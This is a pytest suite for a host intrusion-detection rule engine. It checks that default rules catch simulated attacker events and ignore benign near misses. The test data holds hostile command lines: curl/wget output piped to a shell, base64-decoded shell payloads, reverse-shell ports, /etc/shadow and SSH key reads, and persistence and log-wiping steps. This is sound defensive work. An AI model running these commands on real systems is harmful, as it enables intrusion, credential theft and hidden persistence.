"""Rule loading, validation and matching, including the shipped default ruleset."""

from __future__ import annotations

import fnmatch
import re
from importlib import resources
from pathlib import Path
from typing import Any, cast

import pytest

from hub.models import EVENT_KINDS, Event
from hub.rules import (
    ARGV_MATCH_LIMIT,
    Condition,
    ProcessContext,
    Rule,
    RuleError,
    RuleSet,
    load_rules,
    parse_rules,
)

DEFAULT_RULES = Path(str(resources.files("hub") / "rulesets" / "default.toml"))
NO_CTX = ProcessContext()

REQUIRED = {
    "shell-from-web-server": "HIGH",
    "shell-from-database": "HIGH",
    "reverse-shell-port": "HIGH",
    "shadow-read": "HIGH",
    "download-piped-to-shell": "HIGH",
    "ptrace-attach": "HIGH",
    "authorized-keys-write": "HIGH",
    "crontab-persistence": "MEDIUM",
    "systemd-unit-persistence": "MEDIUM",
    "kernel-module-load": "HIGH",
    "setuid-binary-created": "HIGH",
    "history-tampering": "MEDIUM",
}
WEIGHT_RANGES = {"LOW": (5, 10), "MEDIUM": (15, 25), "HIGH": (35, 50), "CRITICAL": (60, 80)}


def ev(kind: str, **fields: Any) -> Event:
    """Build an event the way the agent sends it."""
    return cast(Event, {"seq": 1, "ts": 1_700_000_000.0, "kind": kind, "pid": 4242, **fields})


def ctx(**fields: str) -> ProcessContext:
    return ProcessContext(**fields)


@pytest.fixture(scope="module")
def default() -> RuleSet:
    return load_rules([DEFAULT_RULES])


def matched_ids(ruleset: RuleSet, event: Event, context: ProcessContext = NO_CTX) -> set[str]:
    return {rule.id for rule in ruleset.match(event, context)}


# --- the default ruleset -------------------------------------------------------------------


def test_default_ruleset_loads_with_mitre_ids(default: RuleSet) -> None:
    assert len(default) >= 24
    for rule in default:
        assert rule.tactics, rule.id
        assert rule.techniques, rule.id
        assert rule.mitre == [*rule.tactics, *rule.techniques]
        assert rule.name
        assert rule.description.endswith("."), rule.id


def test_default_ruleset_has_required_rules_and_realistic_weights(default: RuleSet) -> None:
    for rule_id, severity in REQUIRED.items():
        rule = default.get(rule_id)
        assert rule is not None, rule_id
        assert rule.severity == severity
    for rule in default:
        low, high = WEIGHT_RANGES[rule.severity]
        assert low <= rule.weight <= high, rule.id


WEB_SHELL = {"exe": "/usr/bin/bash", "argv": ["bash", "-c", "id"]}

# (rule id, event, context): realistic attacker activity the rule must catch.
HITS: list[tuple[str, Event, ProcessContext]] = [
    (
        "shell-from-web-server",
        ev("process_start", **WEB_SHELL),
        ctx(parent_exe="/usr/sbin/nginx", parent_comm="nginx"),
    ),
    (
        "shell-from-web-server",
        ev("process_start", exe="/bin/dash", argv=["sh", "-c", "uname -a"]),
        ctx(parent_exe="/usr/sbin/php-fpm8.2", parent_comm="php-fpm8.2"),
    ),
    (
        "shell-from-web-server",
        ev("process_start", **WEB_SHELL),
        ctx(parent_exe="/usr/bin/python3.11", parent_comm="gunicorn"),
    ),
    (
        "shell-from-database",
        ev("process_start", exe="/bin/sh", argv=["sh", "-c", "id > /tmp/x"]),
        ctx(parent_exe="/usr/lib/postgresql/16/bin/postgres", parent_comm="postgres"),
    ),
    (
        "shell-from-database",
        ev("process_start", exe="/usr/bin/bash"),
        ctx(parent_exe="/usr/bin/redis-server"),
    ),
    (
        "reverse-shell-port",
        ev("net_connect", exe="/usr/bin/bash", dst_ip="203.0.113.7", dst_port=4444),
        NO_CTX,
    ),
    (
        "reverse-shell-port",
        ev("net_connect", dst_ip="198.51.100.2", dst_port=31337, protocol="tcp"),
        ctx(exe="/usr/bin/python3.11", comm="python3"),
    ),
    (
        "shadow-read",
        ev("file_open", exe="/usr/bin/cat", comm="cat", path="/etc/shadow"),
        NO_CTX,
    ),
    ("shadow-read", ev("file_open", path="/etc/gshadow"), ctx(exe="/usr/bin/python3.12")),
    (
        "download-piped-to-shell",
        ev(
            "process_start",
            exe="/usr/bin/bash",
            argv=["bash", "-c", "curl -fsSL http://203.0.113.7/i.sh | bash"],
        ),
        NO_CTX,
    ),
    (
        "download-piped-to-shell",
        ev("process_start", exe="/bin/dash", argv=["sh", "-c", "wget -qO- http://x/a|sh"]),
        NO_CTX,
    ),
    ("ptrace-attach", ev("syscall", syscall="ptrace", exe="/tmp/.x/inject"), NO_CTX),
    (
        "authorized-keys-write",
        ev("file_write", exe="/usr/bin/bash", path="/root/.ssh/authorized_keys"),
        NO_CTX,
    ),
    (
        "authorized-keys-write",
        ev("file_write", path="/home/deploy/.ssh/authorized_keys2"),
        NO_CTX,
    ),
    (
        "crontab-persistence",
        ev("file_write", exe="/usr/bin/tee", path="/etc/cron.d/updater"),
        NO_CTX,
    ),
    (
        "crontab-persistence",
        ev("file_write", exe="/usr/bin/crontab", path="/var/spool/cron/crontabs/www-data"),
        NO_CTX,
    ),
    (
        "systemd-unit-persistence",
        ev("file_write", exe="/usr/bin/cp", path="/etc/systemd/system/dbus-helper.service"),
        NO_CTX,
    ),
    (
        "systemd-unit-persistence",
        ev("file_write", exe="/usr/bin/vim", path="/home/bob/.config/systemd/user/x.service"),
        NO_CTX,
    ),
    ("kernel-module-load", ev("module_load", path="/tmp/diamorphine.ko"), NO_CTX),
    (
        "kernel-module-load",
        ev("process_start", exe="/usr/bin/kmod", comm="insmod", argv=["insmod", "rk.ko"]),
        NO_CTX,
    ),
    (
        "setuid-binary-created",
        ev(
            "syscall",
            syscall="fchmodat",
            path="/tmp/.sh",
            metadata={"mode": 0o4755, "setuid": True},
        ),
        NO_CTX,
    ),
    (
        "setuid-binary-created",
        ev("process_start", exe="/usr/bin/chmod", argv=["chmod", "u+s", "/tmp/.bash"]),
        NO_CTX,
    ),
    (
        "setuid-binary-created",
        ev("process_start", exe="/usr/bin/chmod", argv=["chmod", "4755", "/tmp/.bash"]),
        NO_CTX,
    ),
    (
        "history-tampering",
        ev("file_delete", exe="/usr/bin/rm", path="/root/.bash_history"),
        NO_CTX,
    ),
    (
        "history-tampering",
        ev("file_write", exe="/usr/bin/shred", path="/home/a/.zsh_history"),
        NO_CTX,
    ),
    (
        "history-tampering",
        ev("process_start", exe="/usr/bin/bash", argv=["bash", "-c", "unset HISTFILE; id"]),
        NO_CTX,
    ),
    (
        "history-tampering",
        ev("process_start", exe="/usr/bin/bash", argv=["bash", "-c", "export HISTFILE=/dev/null"]),
        NO_CTX,
    ),
]

# (rule id, event, context): benign near misses the rule must leave alone.
MISSES: list[tuple[str, Event, ProcessContext]] = [
    (
        "shell-from-web-server",
        ev("process_start", **WEB_SHELL),
        ctx(parent_exe="/usr/sbin/sshd", parent_comm="sshd"),
    ),
    (
        "shell-from-web-server",
        ev("process_start", exe="/usr/bin/curl"),
        ctx(parent_exe="/usr/sbin/nginx"),
    ),
    ("shell-from-web-server", ev("process_start", **WEB_SHELL), NO_CTX),
    (
        "shell-from-database",
        ev("process_start", exe="/usr/bin/bash"),
        ctx(parent_exe="/usr/bin/mysql"),
    ),
    (
        "reverse-shell-port",
        ev("net_connect", exe="/usr/bin/bash", dst_ip="203.0.113.7", dst_port=443),
        NO_CTX,
    ),
    (
        "reverse-shell-port",
        ev("net_connect", exe="/usr/bin/curl", dst_ip="203.0.113.7", dst_port=4444),
        NO_CTX,
    ),
    ("reverse-shell-port", ev("net_listen", exe="/usr/bin/bash", dst_port=4444), NO_CTX),
    ("shadow-read", ev("file_open", exe="/usr/bin/passwd", path="/etc/shadow"), NO_CTX),
    ("shadow-read", ev("file_open", path="/etc/shadow"), ctx(exe="/usr/sbin/unix_chkpwd")),
    ("shadow-read", ev("file_open", exe="/usr/bin/cat", path="/etc/passwd"), NO_CTX),
    (
        "download-piped-to-shell",
        ev("process_start", exe="/usr/bin/bash", argv=["bash", "-c", "curl -o /tmp/i.sh http://x"]),
        NO_CTX,
    ),
    (
        "download-piped-to-shell",
        ev("process_start", exe="/usr/bin/bash", argv=["bash", "-c", "curl -s http://x | jq ."]),
        NO_CTX,
    ),
    ("ptrace-attach", ev("syscall", syscall="openat"), NO_CTX),
    ("ptrace-attach", ev("syscall"), NO_CTX),
    (
        "authorized-keys-write",
        ev("file_write", path="/home/deploy/.ssh/known_hosts"),
        NO_CTX,
    ),
    (
        "authorized-keys-write",
        ev("file_open", exe="/usr/sbin/sshd", path="/root/.ssh/authorized_keys"),
        NO_CTX,
    ),
    ("crontab-persistence", ev("file_write", exe="/usr/bin/tee", path="/etc/hosts"), NO_CTX),
    (
        "crontab-persistence",
        ev("file_write", exe="/usr/bin/dpkg", path="/etc/cron.daily/logrotate"),
        NO_CTX,
    ),
    (
        "systemd-unit-persistence",
        ev("file_write", exe="/usr/bin/dpkg", path="/lib/systemd/system/nginx.service"),
        NO_CTX,
    ),
    (
        "systemd-unit-persistence",
        ev("file_open", exe="/usr/bin/cat", path="/etc/systemd/system/sshd.service"),
        NO_CTX,
    ),
    ("kernel-module-load", ev("process_start", exe="/usr/bin/kmod", comm="lsmod"), NO_CTX),
    (
        "setuid-binary-created",
        ev("syscall", syscall="fchmodat", path="/tmp/x", metadata={"mode": 0o755, "setuid": False}),
        NO_CTX,
    ),
    (
        "setuid-binary-created",
        ev("syscall", syscall="fchmodat", path="/tmp/x", metadata={"setuid": 1}),
        NO_CTX,
    ),
    (
        "setuid-binary-created",
        ev("process_start", exe="/usr/bin/chmod", argv=["chmod", "0755", "/usr/local/bin/tool"]),
        NO_CTX,
    ),
    (
        "setuid-binary-created",
        ev("process_start", exe="/usr/bin/chmod", argv=["chmod", "+x", "deploy.sh"]),
        NO_CTX,
    ),
    (
        "history-tampering",
        ev("file_write", exe="/usr/bin/bash", path="/home/a/.bash_history"),
        NO_CTX,
    ),
    (
        "history-tampering",
        ev("process_start", exe="/usr/bin/bash", argv=["bash", "-c", "history | tail"]),
        NO_CTX,
    ),
]


@pytest.mark.parametrize(("rule_id", "event", "context"), HITS)
def test_required_rule_matches_attack(
    default: RuleSet, rule_id: str, event: Event, context: ProcessContext
) -> None:
    rule = default.get(rule_id)
    assert rule is not None
    assert rule.matches(event, context)
    assert rule_id in matched_ids(default, event, context)


@pytest.mark.parametrize(("rule_id", "event", "context"), MISSES)
def test_required_rule_ignores_near_miss(
    default: RuleSet, rule_id: str, event: Event, context: ProcessContext
) -> None:
    rule = default.get(rule_id)
    assert rule is not None
    assert not rule.matches(event, context)
    assert rule_id not in matched_ids(default, event, context)


def test_every_required_rule_has_hit_and_miss_cases() -> None:
    assert {case[0] for case in HITS} == set(REQUIRED)
    assert {case[0] for case in MISSES} == set(REQUIRED)


def test_ordinary_activity_matches_nothing(default: RuleSet) -> None:
    benign = [
        ev("process_start", exe="/usr/bin/ls", argv=["ls", "-la"]),
        ev("file_open", exe="/usr/bin/cat", path="/etc/hostname"),
        ev("net_connect", exe="/usr/bin/curl", dst_ip="93.184.216.34", dst_port=443),
        ev("process_exit"),
        ev("login", uid=1000),
    ]
    login_shell = ctx(parent_exe="/usr/sbin/sshd", parent_comm="sshd")
    for event in benign:
        assert matched_ids(default, event, login_shell) == set(), event


# One realistic hit for every other shipped rule, so a broken glob or regex shows up here.
OTHER_HITS: list[tuple[str, Event]] = [
    (
        "base64-piped-to-shell",
        ev("process_start", exe="/bin/bash", argv=["bash", "-c", "echo aWQK | base64 -d | bash"]),
    ),
    ("exec-from-tmp", ev("process_start", exe="/dev/shm/.x/kworker")),
    (
        "ld-preload-argv",
        ev("process_start", exe="/usr/bin/env", argv=["env", "LD_PRELOAD=/tmp/h.so", "ls"]),
    ),
    ("netcat-listener", ev("net_listen", exe="/usr/bin/nc.openbsd", dst_port=9001)),
    ("mining-pool-connect", ev("net_connect", exe="/tmp/k", dst_ip="192.0.2.9", dst_port=14444)),
    (
        "cryptominer-process",
        ev("process_start", exe="/var/lib/k", argv=["k", "-o", "stratum+tcp://pool.example:3333"]),
    ),
    (
        "network-scanner",
        ev("process_start", exe="/usr/bin/nmap", argv=["nmap", "-sS", "10.0.0.0/24"]),
    ),
    (
        "ssh-private-key-read",
        ev("file_open", exe="/usr/bin/python3", path="/home/a/.ssh/id_ed25519"),
    ),
    ("proc-mem-read", ev("file_open", exe="/tmp/x", path="/proc/812/mem")),
    (
        "pam-tampering",
        ev("file_write", exe="/usr/bin/cp", path="/lib/x86_64-linux-gnu/security/pam_unix.so"),
    ),
    ("process-vm-access", ev("syscall", syscall="process_vm_readv")),
    ("sudoers-write", ev("file_write", exe="/usr/bin/tee", path="/etc/sudoers.d/99-nopasswd")),
    ("passwd-write", ev("file_write", exe="/usr/bin/python3", path="/etc/passwd")),
    ("root-login", ev("login", uid=0, exe="/usr/sbin/sshd")),
    ("shell-profile-persistence", ev("file_write", exe="/usr/bin/bash", path="/root/.bashrc")),
    ("ld-preload-write", ev("file_write", exe="/usr/bin/bash", path="/etc/ld.so.preload")),
    ("log-deletion", ev("file_delete", exe="/usr/bin/rm", path="/var/log/auth.log")),
    ("login-records-tampering", ev("file_write", exe="/tmp/wipe", path="/var/log/wtmp")),
    (
        "chattr-immutable",
        ev("process_start", exe="/usr/bin/chattr", argv=["chattr", "+i", "/etc/cron.d/x"]),
    ),
    ("container-runtime-socket", ev("file_open", exe="/usr/bin/curl", path="/run/docker.sock")),
    (
        "nsenter-host",
        ev("process_start", exe="/usr/bin/nsenter", argv=["nsenter", "-t", "1", "-m", "sh"]),
    ),
    ("cgroup-release-agent-write", ev("file_write", exe="/bin/sh", path="/tmp/c/release_agent")),
    (
        "webshell-file-write",
        ev("file_write", exe="/usr/sbin/php-fpm8.2", path="/var/www/html/up/x.php"),
    ),
]


@pytest.mark.parametrize(("rule_id", "event"), OTHER_HITS)
def test_other_rule_matches_attack(default: RuleSet, rule_id: str, event: Event) -> None:
    assert rule_id in matched_ids(default, event)


def test_every_shipped_rule_has_a_hit_case(default: RuleSet) -> None:
    covered = {case[0] for case in HITS} | {case[0] for case in OTHER_HITS}
    assert covered == {rule.id for rule in default}


# --- the condition language ----------------------------------------------------------------


def one_rule(when: str) -> Rule:
    text = f"""
[[rule]]
id = "r"
name = "R"
severity = "LOW"
weight = 5
[rule.when]
{when}
"""
    [rule] = parse_rules(text, "inline.toml")
    return rule


def test_dst_ip_matches_cidrs_and_mapped_addresses() -> None:
    rule = one_rule('kind = "net_connect"\ndst_ip = ["10.0.0.0/8", "2001:db8::/32", "192.0.2.1"]')
    assert rule.matches(ev("net_connect", dst_ip="10.1.2.3"), NO_CTX)
    assert rule.matches(ev("net_connect", dst_ip="192.0.2.1"), NO_CTX)
    assert rule.matches(ev("net_connect", dst_ip="2001:db8::5"), NO_CTX)
    assert rule.matches(ev("net_connect", dst_ip="::ffff:10.9.9.9"), NO_CTX)
    assert not rule.matches(ev("net_connect", dst_ip="11.0.0.1"), NO_CTX)
    assert not rule.matches(ev("net_connect", dst_ip="not-an-ip"), NO_CTX)
    assert not rule.matches(ev("net_connect"), NO_CTX)


def test_absent_fields_never_match_but_not_fields_pass() -> None:
    rule = one_rule('kind = "file_open"\npath = ["/etc/*"]\nexe_not = ["*/ok"]\nuid = [0]')
    assert rule.matches(ev("file_open", path="/etc/x", uid=0), NO_CTX)
    assert not rule.matches(ev("file_open", path="/etc/x", uid=0, exe="/bin/ok"), NO_CTX)
    assert not rule.matches(ev("file_open", path="/etc/x", uid=0), ctx(exe="/bin/ok"))
    assert not rule.matches(ev("file_open", path="/etc/x"), NO_CTX)
    assert not rule.matches(ev("file_open", uid=0), NO_CTX)


def test_exe_and_comm_fall_back_to_context_and_globs_are_case_sensitive() -> None:
    rule = one_rule('kind = "syscall"\nexe = ["*/nc"]\ncomm = ["nc*"]')
    assert rule.matches(ev("syscall"), ctx(exe="/usr/bin/nc", comm="nc"))
    assert rule.matches(ev("syscall", exe="/bin/nc", comm="nc.openbsd"), NO_CTX)
    assert not rule.matches(ev("syscall", exe="/bin/NC", comm="nc"), NO_CTX)
    assert not rule.matches(ev("syscall"), NO_CTX)


def test_metadata_matches_exact_values() -> None:
    rule = one_rule('kind = "custom"\nmetadata = { source = "auditd", count = 3 }')
    assert rule.matches(ev("custom", metadata={"source": "auditd", "count": 3, "x": 1}), NO_CTX)
    assert not rule.matches(ev("custom", metadata={"source": "auditd"}), NO_CTX)
    assert not rule.matches(ev("custom", metadata={"source": "AUDITD", "count": 3}), NO_CTX)
    assert not rule.matches(ev("custom"), NO_CTX)


GLOBS = ["*/sh", "/tmp/*", "*/php-fpm*", "exact", "/proc/[0-9]*/mem", "a?c", "*", "**x"]
VALUES = [
    "/bin/sh",
    "/bin/bash",
    "/tmp/x/y",
    "/usr/sbin/php-fpm8.2",
    "exact",
    "exactly",
    "/proc/12/mem",
    "/proc/self/mem",
    "abc",
    "a/c",
    "x",
    "",
    "SH",
    "/bin/sh\n",
]


@pytest.mark.parametrize("glob", GLOBS)
def test_globs_agree_with_fnmatchcase(glob: str) -> None:
    rule = one_rule(f'kind = "file_open"\npath = ["{glob}"]')
    for value in VALUES:
        expected = fnmatch.fnmatchcase(value, glob)
        assert rule.matches(ev("file_open", path=value), NO_CTX) is expected, value


def test_mixed_glob_list_agrees_with_fnmatchcase() -> None:
    listed = ", ".join(f'"{glob}"' for glob in GLOBS if glob not in ("*", "**x"))
    rule = one_rule(f'kind = "file_open"\npath = [{listed}]')
    for value in VALUES:
        expected = any(fnmatch.fnmatchcase(value, g) for g in GLOBS if g not in ("*", "**x"))
        assert rule.matches(ev("file_open", path=value), NO_CTX) is expected, value


def test_argv_regex_sees_a_bounded_prefix() -> None:
    rule = one_rule('kind = "process_start"\nargv_regex = "MARK"')
    assert rule.matches(ev("process_start", argv=["x", "MARK"]), NO_CTX)
    assert not rule.matches(ev("process_start", argv=["x" * ARGV_MATCH_LIMIT, "MARK"]), NO_CTX)
    assert not rule.matches(ev("process_start"), NO_CTX)


def test_match_only_considers_rules_for_the_event_kind() -> None:
    calls: list[str] = []

    def spy(name: str) -> Condition:
        def check(event: Event, context: ProcessContext) -> bool:
            calls.append(name)
            return True

        kind = "process_start" if name == "proc" else "file_open"
        return Condition(frozenset({kind}), (check,))

    def rule(rule_id: str, condition: Condition) -> Rule:
        return Rule(rule_id, rule_id, "", "LOW", 5.0, ("TA0002",), ("T1059",), (), (condition,))

    ruleset = RuleSet([rule("file", spy("file")), rule("proc", spy("proc"))])
    assert [r.id for r in ruleset.match(ev("process_start"), NO_CTX)] == ["proc"]
    assert calls == ["proc"]
    assert ruleset.match(ev("net_connect"), NO_CTX) == []
    assert calls == ["proc"]


def test_array_of_when_tables_is_any_of_and_indexed_per_kind() -> None:
    [rule] = parse_rules(
        """
[[rule]]
id = "either"
name = "Either"
severity = "MEDIUM"
weight = 20
[[rule.when]]
kind = "module_load"
[[rule.when]]
kind = "process_start"
comm = ["insmod"]
""",
        "inline.toml",
    )
    ruleset = RuleSet([rule])
    assert rule.kinds == frozenset({"module_load", "process_start"})
    assert matched_ids(ruleset, ev("module_load")) == {"either"}
    assert matched_ids(ruleset, ev("process_start", comm="insmod")) == {"either"}
    assert matched_ids(ruleset, ev("process_start", comm="bash")) == set()


def test_every_kind_accepted() -> None:
    for kind in EVENT_KINDS:
        assert one_rule(f'kind = "{kind}"').kinds == frozenset({kind})


# --- bad rule files ------------------------------------------------------------------------

GOOD_RULE = {
    "id": '"bad-one"',
    "name": '"Bad one"',
    "severity": '"HIGH"',
    "weight": "40",
}


def write_rule(tmp_path: Path, when: str = 'kind = "process_start"', **fields: str) -> Path:
    values = {**GOOD_RULE, **fields}
    body = "\n".join(f"{key} = {value}" for key, value in values.items())
    path = tmp_path / "rules.toml"
    path.write_text(f"[[rule]]\n{body}\n[rule.when]\n{when}\n", encoding="utf-8")
    return path


def assert_rule_error(path: Path, *parts: str) -> None:
    with pytest.raises(RuleError) as info:
        load_rules([path])
    message = str(info.value)
    for part in (path.name, *parts):
        assert part in message, message


@pytest.mark.parametrize(
    ("when", "fields", "expected"),
    [
        ('kind = "process_start"\nargv_regex = "(unclosed"', {}, ("'argv_regex'", "invalid regex")),
        ('kind = "process_start"\nexe_glob = ["*/sh"]', {}, ("'exe_glob'", "unknown field")),
        ('kind = "process_start"', {"colour": '"red"'}, ("'colour'", "unknown field")),
        ('kind = "process_start"', {"severity": '"SEVERE"'}, ("'severity'", "SEVERE")),
        ('kind = "process_spawn"', {}, ("'kind'", "process_spawn")),
        ('kind = ["file_open", "nope"]', {}, ("'kind'", "nope")),
        ('kind = "process_start"', {"weight": "-5"}, ("'weight'",)),
        ('kind = "process_start"', {"weight": "0"}, ("'weight'",)),
        ('kind = "process_start"', {"weight": "1001"}, ("'weight'",)),
        ('kind = "process_start"', {"weight": '"high"'}, ("'weight'",)),
        ('kind = "process_start"', {"tactics": '["TA2"]'}, ("'tactics'", "TA2")),
        ('kind = "process_start"', {"techniques": '["T1059.4"]'}, ("'techniques'", "T1059.4")),
        ('kind = "net_connect"\ndst_port = [70000]', {}, ("'dst_port'", "70000")),
        ('kind = "net_connect"\ndst_port = ["ssh"]', {}, ("'dst_port'",)),
        ('kind = "net_connect"\ndst_ip = ["10.0.0.0/33"]', {}, ("'dst_ip'",)),
        ('kind = "process_start"\nexe = []', {}, ("'exe'",)),
        ('kind = "process_start"\nmetadata = { a = [1] }', {}, ("'metadata'",)),
        ('exe = ["*/sh"]', {}, ("'kind'", "required")),
    ],
)
def test_bad_rule_names_file_rule_and_field(
    tmp_path: Path, when: str, fields: dict[str, str], expected: tuple[str, ...]
) -> None:
    assert_rule_error(write_rule(tmp_path, when, **fields), "rule 'bad-one'", *expected)


def test_bad_id_is_reported_by_position(tmp_path: Path) -> None:
    assert_rule_error(write_rule(tmp_path, id='"Bad Id!"'), "rule #1", "'id'", "Bad Id!")


def test_missing_when_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "rules.toml"
    path.write_text('[[rule]]\nid = "x"\nname = "X"\nseverity = "LOW"\nweight = 5\n')
    assert_rule_error(path, "rule 'x'", "'when'")


def test_duplicate_id_in_one_file(tmp_path: Path) -> None:
    path = write_rule(tmp_path)
    path.write_text(path.read_text() * 2, encoding="utf-8")
    assert_rule_error(path, "rule 'bad-one'", "'id'", "duplicate")


def test_duplicate_id_across_files(tmp_path: Path) -> None:
    first = write_rule(tmp_path)
    second = tmp_path / "more.toml"
    second.write_text(first.read_text(), encoding="utf-8")
    with pytest.raises(RuleError, match=r"more\.toml: rule 'bad-one': field 'id': duplicate"):
        load_rules([first, second])


def test_duplicate_id_in_ruleset() -> None:
    rule = one_rule('kind = "custom"')
    with pytest.raises(RuleError, match="rule 'r': duplicate"):
        RuleSet([rule, rule])


def test_error_in_second_when_table_names_it(tmp_path: Path) -> None:
    path = tmp_path / "rules.toml"
    path.write_text(
        '[[rule]]\nid = "x"\nname = "X"\nseverity = "LOW"\nweight = 5\n'
        '[[rule.when]]\nkind = "custom"\n[[rule.when]]\nkind = "custom"\npath = "["\n'
        '[[rule.when]]\nkind = "custom"\nargv_regex = "["\n',
        encoding="utf-8",
    )
    assert_rule_error(path, "rule 'x'", "'when[2].argv_regex'", "invalid regex")


def test_invalid_toml_and_missing_file(tmp_path: Path) -> None:
    path = tmp_path / "rules.toml"
    path.write_text("[[rule]\n", encoding="utf-8")
    assert_rule_error(path, "invalid TOML")
    with pytest.raises(RuleError, match=re.escape(str(tmp_path / "absent.toml"))):
        load_rules([tmp_path / "absent.toml"])


def test_unknown_top_level_key(tmp_path: Path) -> None:
    path = tmp_path / "rules.toml"
    path.write_text('[rules]\nid = "x"\n', encoding="utf-8")
    assert_rule_error(path, "'rules'")


@pytest.mark.parametrize(("rule_id", "event"), [*((c[0], c[1]) for c in HITS), *OTHER_HITS])
def test_the_prefilter_never_hides_a_match(default: RuleSet, rule_id: str, event: Event) -> None:
    assert default.may_match(event)


def test_the_prefilter_passes_over_benign_events(default: RuleSet) -> None:
    assert not default.may_match(ev("file_open", path="/var/lib/app/12.dat"))
    assert not default.may_match(ev("custom"))
